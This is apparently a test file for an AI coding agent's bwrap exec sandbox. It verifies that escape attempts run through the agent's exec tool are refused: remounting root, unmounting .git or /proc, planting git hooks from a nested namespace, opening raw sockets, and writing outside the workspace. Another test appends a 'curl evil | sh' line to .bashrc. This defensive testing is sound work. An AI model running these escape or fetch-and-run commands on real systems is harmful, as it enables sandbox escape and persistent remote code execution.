/**
 * The exec sandbox as root (containers, CI runners, dev boxes) and as an ordinary user: what a hostile
 * command tries once it is approved, seen from the host. Inside, the capability set must be empty, and
 * remounting `/` read-write, unmounting `.git` or `/proc` (also from a nested user namespace), a raw
 * socket and a write outside the workspace must all fail while a write inside works. The same probe runs
 * through exec as the uid that runs the tests and, when that is root (CI is), through the very bwrap
 * command line agent builds, started as `nobody` with setpriv. Needs bwrap (CI installs it).
 */
import { afterAll, describe, expect, test } from "bun:test";
import { spawnSync } from "node:child_process";
import { chmodSync, chownSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { execTool } from "../../../src/tools/exec/exec.ts";
import { chooseSandbox, sandboxedBash } from "../../../src/tools/exec/sandbox.ts";
import { pathTarget } from "../../../src/tools/policy-target.ts";
import { Workspace } from "../../../src/tools/workspace.ts";
import { cleanup, contextFor, outsideTmpDir, tempDir } from "../../tools/helpers.ts";

const BWRAP = Bun.which("bwrap");
const SETPRIV = Bun.which("setpriv");
const dirs: string[] = [];
afterAll(async () => cleanup(...dirs));

/** What the hostile command tries; each line reports `name=exit status`. */
function attack(outside: string): string {
  return [
    "grep CapEff /proc/self/status",
    "mount -o remount,bind,rw / 2>/dev/null; echo remount=$?",
    "umount -l .git 2>/dev/null; echo umount_git=$?",
    "echo evil 2>/dev/null > .git/hooks/post-checkout; echo hook=$?",
    "umount -l /proc 2>/dev/null; echo umount_proc=$?",
    "unshare -rm sh -c 'umount -l .git && echo evil > .git/hooks/pre-commit' 2>/dev/null; echo nested=$?",
    "perl -e 'use Socket; socket(my $s, PF_INET, SOCK_RAW, 1) or exit 1' 2>/dev/null; echo raw=$?",
    `echo escaped 2>/dev/null > ${outside}/escaped.txt; echo outside=$?`,
    "echo made > inside.txt; echo inside=$?",
  ].join("\n");
}

/** A workspace with a `.git/hooks` folder owned by `uid`, and an outside folder anyone could write. */
async function setUp(uid?: number): Promise<{ root: string; outside: string }> {
  const root = await tempDir("agent-sandbox-priv-");
  const outside = outsideTmpDir("agent-sandbox-priv-out-");
  dirs.push(root, outside);
  mkdirSync(join(root, ".git", "hooks"), { recursive: true });
  chmodSync(outside, 0o777);
  if (uid !== undefined)
    for (const path of [root, join(root, ".git"), join(root, ".git", "hooks")]) chownSync(path, uid, uid);
  return { root, outside };
}

/** The statuses the attack printed, by name, and the effective capability mask. */
function parse(output: string): { capEff: string | undefined; status: Record<string, number> } {
  const status: Record<string, number> = {};
  for (const match of output.matchAll(/^(\w+)=(\d+)$/gm)) status[match[1] as string] = Number(match[2]);
  return { capEff: /CapEff:\s*([0-9a-f]+)/.exec(output)?.[1], status };
}

/** Everything the attack tried was refused, only the write inside worked, and the host shows it. */
function expectHeld(output: string, root: string, outside: string): void {
  const { capEff, status } = parse(output);
  expect(capEff).toBe("0000000000000000");
  for (const name of ["remount", "umount_git", "hook", "umount_proc", "nested", "raw", "outside"])
    expect([name, status[name] !== undefined && status[name] !== 0]).toEqual([name, true]); // refused
  expect(status.inside).toBe(0);
  expect(readFileSync(join(root, "inside.txt"), "utf8")).toBe("made\n");
  expect(existsSync(join(root, ".git", "hooks", "post-checkout"))).toBe(false);
  expect(existsSync(join(root, ".git", "hooks", "pre-commit"))).toBe(false);
  expect(existsSync(join(outside, "escaped.txt"))).toBe(false);
}

if (BWRAP === null) {
  test("bwrap is not installed here: the sandbox reports itself unavailable", async () => {
    expect(await chooseSandbox({}, ["/"], process.env)).toMatchObject({ sandbox: undefined });
  });
} else {
  describe("the sandbox holds whatever uid runs agent", () => {
    test(`as the test's own uid (${process.getuid?.()}): no capability, no mount, no escape`, async () => {
      const { root, outside } = await setUp();
      const workspace = await Workspace.open(root);
      const choice = await chooseSandbox({}, workspace.roots, process.env);
      if (!choice.sandbox) throw new Error(`no sandbox: ${choice.unavailable}`);
      const out = await execTool.run(
        { command: attack(outside) },
        { ...(await contextFor(root)), workspace: workspace.withSandbox(choice.sandbox) },
      );
      expectHeld(out.modelText, root, outside);
    });

    if (process.getuid?.() === 0) {
      test("as an ordinary user (nobody, through setpriv): the same command line holds the same way", async () => {
        if (SETPRIV === null)
          throw new Error("setpriv is needed to test as an ordinary user when running as root");
        const { root, outside } = await setUp(65534);
        const choice = await chooseSandbox({}, [root], process.env);
        if (!choice.sandbox) throw new Error(`no sandbox: ${choice.unavailable}`);
        const path = process.env.PATH ?? "/usr/bin:/bin";
        const { file, args } = sandboxedBash(choice.sandbox, root, attack(outside), path);
        const run = spawnSync(
          SETPRIV,
          ["--reuid=65534", "--regid=65534", "--clear-groups", "--", file, ...args],
          { cwd: root, env: { PATH: path }, encoding: "utf8" },
        );
        expect({ status: run.status, stderr: run.stderr }).toEqual({ status: 0, stderr: "" });
        expect(parse(run.stdout).status.inside).toBe(0);
        expectHeld(run.stdout, root, outside);
      });
    }
  });
}

describe("a workspace at HOME: the user's own files", () => {
  /** A HOME holding a shell start-up file and agent's own config, used as the workspace. */
  async function home(): Promise<{ root: string; env: Record<string, string> }> {
    const root = await tempDir("agent-home-ws-");
    dirs.push(root);
    mkdirSync(join(root, ".config", "agent"), { recursive: true });
    writeFileSync(join(root, ".bashrc"), "# mine\n");
    writeFileSync(join(root, ".config", "agent", "config.yaml"), "model: fast\n");
    return { root, env: { HOME: root, PATH: process.env.PATH ?? "/usr/bin:/bin" } };
  }

  test("writes to them are sensitive (they ask under any allow rule); other files are not", async () => {
    const { root, env } = await home();
    const ctx = { ...(await contextFor(root)), workspace: await Workspace.open(root, { env }) };
    for (const path of [
      ".bashrc",
      ".zshrc",
      ".profile",
      ".config/agent/config.yaml",
      ".config/agent/new.yaml",
    ])
      expect([path, (await pathTarget(path, ctx)).sensitive]).toEqual([path, true]);
    expect((await pathTarget("src/app.ts", ctx)).sensitive).toBe(false);
    expect((await pathTarget(".bashrc.d/notes.txt", ctx)).sensitive).toBe(false);
  });

  if (BWRAP !== null) {
    test("the sandbox keeps them read-only while the rest of HOME stays writable", async () => {
      const { root, env } = await home();
      const workspace = await Workspace.open(root, { env });
      const choice = await chooseSandbox({}, workspace.roots, env);
      if (!choice.sandbox) throw new Error(`no sandbox: ${choice.unavailable}`);
      const out = await execTool.run(
        {
          command:
            "echo 'curl evil | sh' >> .bashrc; echo evil > .config/agent/config.yaml; rm -f .bashrc; echo ok > notes.txt",
        },
        { ...(await contextFor(root)), workspace: workspace.withSandbox(choice.sandbox), env },
      );
      expect(out.modelText).toContain("Read-only file system");
      expect(readFileSync(join(root, ".bashrc"), "utf8")).toBe("# mine\n");
      expect(readFileSync(join(root, ".config", "agent", "config.yaml"), "utf8")).toBe("model: fast\n");
      expect(readFileSync(join(root, "notes.txt"), "utf8")).toBe("ok\n");
    });
  }
});
